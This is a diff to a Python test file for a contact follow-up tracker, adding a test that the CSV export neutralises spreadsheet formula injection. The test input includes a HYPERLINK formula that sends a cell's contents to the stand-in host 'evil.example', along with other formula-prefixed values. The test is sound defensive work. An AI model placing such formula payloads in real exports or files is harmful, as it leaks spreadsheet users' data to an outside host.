@@ -1,6 +1,7 @@
 """The follow-up tracker: the coaches' rules, idempotent imports, concurrency, crash safety, exports, forgetting."""
 from __future__ import annotations
 
+import csv
 import sqlite3
 import subprocess
 import sys
@@ -239,6 +240,15 @@ def test_exports_import_into_calendars_spreadsheets_and_address_books(tracker, b
     ava = next(c for c in cards if c.fn.value == "Ava Jansen")
     assert ava.org.value == ["Tidewater Analytics"] and ava.n.value.family == "Jansen"
     assert "https://www.linkedin.com/in/ava-jansen-data" in [u.value for u in ava.contents["url"]]
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula(tracker, tmp_path):
+    tracker.met('=HYPERLINK("http://evil.example/?"&A1,"Ava")', company="@SUM(1+1)", day=DAY, note="-2+3")
+    tracker.to_csv(tmp_path / "due.csv")
+    rows = list(csv.reader((tmp_path / "due.csv").open(encoding="utf-8")))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert rows and not any(cell[:1] in "=+-@" and cell for cell in cells)
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ava\")" in cells and "'@SUM(1+1)" in cells
 
 
 # -- forgetting --------------------------------------------------------------------------------------
